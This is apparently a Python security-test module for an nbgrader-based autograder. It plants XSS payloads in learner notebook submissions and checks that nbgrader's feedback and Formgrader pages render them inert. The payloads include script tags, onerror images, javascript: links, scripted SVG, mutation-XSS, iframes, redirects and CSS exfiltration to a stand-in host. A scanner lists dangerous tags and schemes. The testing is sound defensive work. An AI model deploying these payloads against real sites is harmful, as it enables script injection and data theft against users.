"""Class 4: learner content that would become active HTML in the feedback or in Formgrader.

Every entry is an honest submission (the assignment's correct sample, or the untouched release)
with hostile HTML planted where a learner can put it: new markdown cells, written answers, cell
attachments, raw cells, outputs saved in the notebook, outputs its code makes when it runs, and
the messages of its exceptions. Each earns what its honest code deserves, and its ``check`` reads
what the instructor and the learner are shown: the feedback page nbgrader writes
(``nbgrader generate_feedback``, made here when the runner has not made it yet) and the
autograded notebook as Formgrader's exporter renders it. Nothing in either may run, load, frame,
submit or redirect; the learner's visible text must still be there (inert, not deleted).
"""
from __future__ import annotations

import base64
import html.parser
import re
import subprocess
import sys
from pathlib import Path
from typing import Callable

import nbformat

from autograder.authoring.samples import fill, read_sample
from autograder.course import ROOT

from . import Attack

OUT = "http://127.0.0.1:9/pwned"          # where a payload would phone (the discard port)


def autograded_points(a: str) -> float:
    """What the correct sample earns: every test cell's points (the written answers are graded by hand)."""
    nb = nbformat.read(ROOT / "source" / a / f"{a}.ipynb", as_version=4)
    return float(sum(c.metadata["nbgrader"].get("points", 0) for c in nb.cells
                     if c.metadata.get("nbgrader", {}).get("grade") and not c.metadata["nbgrader"].get("solution")))


def visible(name: str) -> str:
    """The harmless text an entry plants beside its payload: it must reach the pages, as text."""
    return f"VISIBLE_{name}"


# Payloads, each as a learner would write it. Every script would set window.__pwned (the browser
# test looks) or request OUT.
SCRIPT = f"<script>window.__pwned = 'script'; fetch('{OUT}?script')</script>"
ONERROR = f"<img src=\"x\" onerror=\"window.__pwned='onerror'\"><img src=\"{OUT}?img\">"
JS_LINK = ("<a href=\"javascript:window.__pwned='link'\">click</a> "
           "<a href=\"JaVaScRiPt&colon;window.__pwned='link2'\">again</a> [md link](javascript:alert(1))")
SVG = (f"<svg onload=\"window.__pwned='svg'\"><script>window.__pwned='svg-script'</script>"
       f"<a xlink:href=\"javascript:window.__pwned='svg-link'\"><text>svg</text></a></svg>")
MUTATION = ("<math><mtext><table><mglyph><style><img src=x onerror=\"window.__pwned='mxss'\">"
            "</style></mglyph></table></mtext></math>")
FRAMES = (f"<iframe srcdoc=\"<script>parent.__pwned='iframe'</script>\"></iframe>"
          f"<iframe src=\"{OUT}?iframe\"></iframe><object data=\"{OUT}?object\"></object>"
          f"<embed src=\"{OUT}?embed\">")
REDIRECT = (f"<meta http-equiv=\"refresh\" content=\"0;url={OUT}?refresh\"><base href=\"{OUT}/\">"
            f"<form action=\"{OUT}?form\"><button formaction=\"javascript:window.__pwned='form'\">go</button></form>")
STYLE = (f"<style>@import url('{OUT}?import'); body {{ background: url('{OUT}?bg') }}</style>"
         f"<link rel=\"stylesheet\" href=\"{OUT}?link\">"
         f"<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;background:url('{OUT}?div')\">cover</div>"
         f"<span style=\"background-image:url('{OUT}?span')\">x</span>")
EVIL_SVG = (f"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"window.__pwned='attachment'\">"
            f"<script>window.__pwned='attachment-script'</script><image href=\"{OUT}?svgimg\"/></svg>")


def _release(a: str) -> nbformat.NotebookNode:
    return nbformat.read(ROOT / "release" / a / f"{a}.ipynb", as_version=4)


def _answers(a: str, honest: bool) -> dict[str, str]:
    return read_sample(ROOT / "samples" / a / "sample_correct.py") if honest else {}


def _written(nb, gid: str) -> nbformat.NotebookNode:
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == gid)


def _first_markdown(nb) -> int:
    return next(i for i, c in enumerate(nb.cells) if c.cell_type == "markdown")


def submission(a: str, honest: bool, edit) -> Callable[[Path, str], None]:
    """build(course_dir, student): the release filled with the correct sample (or left as it is)
    and changed by EDIT(nb, marker), written to submitted/<student>/<a>/."""
    def build(course_dir: Path, student: str) -> None:
        nb = fill(_release(a), dict(_answers(a, honest)))
        edit(nb, visible(student))
        folder = course_dir / "submitted" / student / a
        folder.mkdir(parents=True, exist_ok=True)
        nbformat.write(nb, folder / f"{a}.ipynb")
    return build


def new_markdown(payload: str):
    """A markdown cell of the learner's own, with PAYLOAD in it, after the title."""
    def edit(nb, marker):
        nb.cells.insert(_first_markdown(nb) + 1, nbformat.v4.new_markdown_cell(f"{marker}\n\n{payload}\n"))
    return edit


def in_written_answer(gid: str, payload: str):
    """The written answer GID (a markdown solution cell, graded by hand) holding PAYLOAD."""
    def edit(nb, marker):
        _written(nb, gid).source = f"My answer: {marker}. The state shrinks when $\\rho(W) < 1$.\n\n{payload}\n"
    return edit


def attachments(nb, marker):
    """A markdown cell whose attachments are a scripted SVG and an HTML page shown as images."""
    cell = nbformat.v4.new_markdown_cell(f"{marker}\n\n![figure](attachment:evil.svg)\n\n![page](attachment:page)\n")
    cell["attachments"] = {
        "evil.svg": {"image/svg+xml": base64.b64encode(EVIL_SVG.encode()).decode()},
        "page": {"text/html": base64.b64encode(SCRIPT.encode()).decode()},
    }
    nb.cells.insert(_first_markdown(nb) + 1, cell)


def raw_html(nb, marker):
    """A raw cell declared as HTML, which nbconvert copies into the page."""
    cell = nbformat.v4.new_raw_cell(f"<p>{marker}</p>{SCRIPT}{ONERROR}")
    cell.metadata["raw_mimetype"] = "text/html"
    nb.cells.insert(_first_markdown(nb) + 1, cell)


def saved_outputs(nb, marker):
    """Outputs saved in the submitted notebook, as if its code had displayed them: HTML, SVG,
    JavaScript and markdown. A grader must not keep them (nbgrader clears outputs before running)."""
    cell = nbformat.v4.new_code_cell(f"print({marker!r})")
    cell.outputs = [nbformat.v4.new_output("display_data", data={
        "text/html": f"<b>{marker}</b>{SCRIPT}{ONERROR}", "text/plain": marker}),
        nbformat.v4.new_output("display_data", data={"image/svg+xml": EVIL_SVG, "text/plain": "svg"}),
        nbformat.v4.new_output("display_data", data={"application/javascript": "window.__pwned = 'js-output'",
                                                     "text/plain": "js"}),
        nbformat.v4.new_output("display_data", data={"text/markdown": f"{marker} {SCRIPT}", "text/plain": "md"}),
        nbformat.v4.new_output("execute_result", execution_count=1, data={"text/html": FRAMES, "text/plain": "x"},
                               metadata={"text/html": {"isolated": True}})]
    nb.cells.insert(_first_markdown(nb) + 1, cell)


def live_outputs(nb, marker):
    """Code that, when it runs, prints HTML, displays HTML, SVG and JavaScript (where IPython is
    there to do it) and raises an exception whose message is HTML."""
    code = f"""print({marker!r}, {SCRIPT!r})
try:
    from IPython.display import HTML, SVG, Javascript, display
    display(HTML({SCRIPT!r} + {ONERROR!r}), SVG({EVIL_SVG!r}), Javascript("window.__pwned = 'js'"))
except Exception as exc:
    print("no display here:", type(exc).__name__)"""
    nb.cells.insert(_first_markdown(nb) + 1, nbformat.v4.new_code_cell(code))
    nb.cells.insert(_first_markdown(nb) + 2, nbformat.v4.new_code_cell(f"raise ValueError({(marker + ONERROR)!r})"))


def raising_function(gid: str, head: str):
    """The release, with the function GID (whose def line is HEAD) raising an exception whose
    message is HTML: its test cells show that message."""
    def edit(nb, marker):
        _written(nb, gid).source = f"{head}\n    raise ValueError({(marker + SCRIPT + ONERROR)!r})\n"
    return edit


# ---------------------------------------------------------------- what the pages may hold

ACTIVE_TAGS = {"script", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "button", "input",
               "textarea", "select", "base", "meta", "link", "style", "svg", "math", "noscript", "template"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "srcdoc"}
CSS_FETCH = re.compile(r"url\s*\(|@import|expression\s*\(|position\s*:\s*fixed", re.I)


VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "param", "source", "track", "wbr"}
# Formgrader's page holds the notebook in #notebook-container; its own buttons, score fields and
# comment boxes are in each graded cell's panel heading and footer.
TEMPLATE_PARTS = {"panel-heading", "panel-footer"}


class _Scan(html.parser.HTMLParser):
    """Everything active in the learner's part of a page: the whole <body> (the head is the
    template's), or, with REGIONS, only the notebook's cells without the template's panels."""

    def __init__(self, regions: bool):
        super().__init__(convert_charrefs=True)
        self.regions, self.in_body, self.problems, self.text, self.csp = regions, False, [], [], None
        self.stack: list[tuple[str, bool | None]] = []   # open elements: a learner region, the template's, neither

    def _learner(self) -> bool:
        if not self.regions:
            return self.in_body
        marks = [mark for _, mark in self.stack if mark is not None]
        return bool(marks) and marks[-1]

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        self._tag(tag, attrs)
        if tag not in VOID:
            classes = set((attrs.get("class") or "").split())
            mark = True if attrs.get("id") == "notebook-container" else False if classes & TEMPLATE_PARTS else None
            self.stack.append((tag, mark))

    def handle_startendtag(self, tag, attrs):
        self._tag(tag, dict(attrs))

    def handle_endtag(self, tag):
        while self.stack and self.stack.pop()[0] != tag:
            pass

    def _tag(self, tag, attrs):
        if tag == "body":
            self.in_body = True
        if tag == "meta" and (attrs.get("http-equiv") or "").lower() == "content-security-policy" and not self.in_body:
            self.csp = attrs.get("content", "")
        if not self._learner():
            return
        if tag in ACTIVE_TAGS:
            self.problems.append(f"<{tag}> in the page: {attrs}")
        for name, value in attrs.items():
            value = (value or "").strip().lower()
            if name.startswith("on"):
                self.problems.append(f"event handler {name}= on <{tag}>")
            scheme = re.sub(r"[\s\x00-\x1f]", "", value)
            if name in URL_ATTRIBUTES and scheme.startswith(("javascript:", "vbscript:", "data:text")):
                self.problems.append(f"{name}={value[:40]!r} on <{tag}>")
            if tag == "img" and name == "src" and not value.startswith("data:image/"):
                self.problems.append(f"<img src={value[:40]!r}> would be fetched")
            if name == "style" and CSS_FETCH.search(value):
                self.problems.append(f"style={value[:60]!r} on <{tag}>")

    def handle_data(self, data):
        if self._learner():
            self.text.append(data)


def inert_problems(page: str, marker: str, csp: bool, regions: bool = False) -> list[str]:
    """What is active in PAGE's body (with REGIONS: in its learner cells); MARKER must be there as
    text; CSP: the page must carry a policy that lets no inline script run but by hash."""
    scan = _Scan(regions)
    scan.feed(page)
    problems = list(scan.problems)
    if marker not in "".join(scan.text):
        problems.append(f"the learner's text {marker} is not on the page")
    if csp:
        policy = scan.csp or ""
        script = next((d for d in policy.split(";") if d.strip().startswith("script-src")), "")
        if not policy or "default-src 'none'" not in policy or "unsafe-inline" in script or "'sha256-" not in script:
            problems.append(f"no Content-Security-Policy that stops inline script: {policy[:120]!r}")
    return problems


def feedback_page(course_dir: Path, assignment: str, student: str) -> str | None:
    """nbgrader's feedback for STUDENT. When the runner has not made it, stock `nbgrader
    generate_feedback` makes the whole assignment's at once (the next entries find theirs)."""
    page = course_dir / "feedback" / student / assignment / f"{assignment}.html"
    if not page.exists():
        subprocess.run([sys.executable, "-m", "nbgrader", "generate_feedback", assignment, "--log-level=ERROR"],
                       cwd=course_dir, capture_output=True, timeout=600)
    return page.read_text(encoding="utf-8") if page.exists() else None


def formgrader_page(course_dir: Path, assignment: str, student: str) -> str | None:
    """The autograded notebook as Formgrader renders it: the course's HTMLExporter configuration
    (nbgrader_config.py) with Formgrader's template, as its submission handler does."""
    from nbconvert.exporters import HTMLExporter
    from traitlets.config import Config
    from traitlets.config.loader import PyFileConfigLoader

    notebook = course_dir / "autograded" / student / assignment / f"{assignment}.ipynb"
    if not notebook.exists():
        return None
    config = PyFileConfigLoader("nbgrader_config.py", path=str(course_dir)).load_config()
    config.merge(Config({"HTMLExporter": {"template_name": "formgrade"}}))
    resources = {"assignment_id": assignment, "notebook_id": assignment, "submission_id": "x", "index": 0,
                 "total": 1, "base_url": "", "student": student, "last_name": None, "first_name": None,
                 "notebook_path": str(notebook)}
    return HTMLExporter(config=config).from_filename(str(notebook), resources=resources)[0]


def pages_inert(assignment: str, student: str):
    """check(course_dir, outcome): STUDENT's feedback page and Formgrader page hold nothing active."""
    def check(course_dir: Path, outcome: dict) -> list[str]:
        problems = []
        for where, page, csp in [("feedback", feedback_page(course_dir, assignment, student), True),
                                 ("formgrader", formgrader_page(course_dir, assignment, student), False)]:
            if page is None:
                problems.append(f"no {where} page for {student}")
            else:
                found = inert_problems(page, visible(student), csp, regions=where == "formgrader")
                problems += [f"{where}: {p}" for p in found]
        return problems
    return check


def attack(name: str, a: str, what: str, edit, honest: bool = True) -> Attack:
    return Attack(name=name, cls=4, assignment=a, what=what, build=submission(a, honest, edit),
                  deserved=autograded_points(a) if honest else 0.0, check=pages_inert(a, name))


ATTACKS = [
    attack("html_markdown_script", "ps1_rnn_forward", "a markdown cell with <script> and an onerror image",
           new_markdown(SCRIPT + "\n\n" + ONERROR)),
    attack("html_answer_links", "ps1_rnn_forward", "a written answer with javascript: links and an onerror image",
           in_written_answer("written_dynamics", JS_LINK + "\n\n" + ONERROR)),
    attack("html_markdown_svg", "ps2_bptt", "a markdown cell with inline SVG that scripts, and a mutation-XSS nest",
           new_markdown(SVG + "\n\n" + MUTATION)),
    attack("html_answer_frames", "ps3_birnn", "a written answer with iframes (srcdoc and remote), object and embed",
           in_written_answer("written_causality", FRAMES)),
    attack("html_markdown_redirect", "ps4_attention",
           "a markdown cell with <meta http-equiv=refresh>, <base> and a form",
           new_markdown(REDIRECT)),
    attack("html_answer_style", "ps4_attention",
           "a written answer that exfiltrates through CSS (@import, url(), <link>)",
           in_written_answer("written_scaling", STYLE)),
    attack("html_attachment", "ps5_pointer", "cell attachments: an SVG that scripts and an HTML page, shown as images",
           attachments),
    attack("html_raw_cell", "ps6_dynamics", "a raw cell declared text/html with <script> and an onerror image",
           raw_html),
    attack("html_saved_outputs", "ps6_dynamics", "outputs saved in the notebook: text/html, SVG, JavaScript, markdown, "
           "an isolated iframe", saved_outputs),
    attack("html_live_outputs", "ps7_memory",
           "code that prints and displays HTML, SVG, JavaScript and raises an HTML message",
           live_outputs),
    attack("html_error_message", "ps2_bptt", "the release, one function raising an exception whose message is HTML",
           raising_function("rnn_step_backward", "def rnn_step_backward(dh_t, x_t, h_prev, h_t, W_xh, W_hh):"),
           honest=False),
]
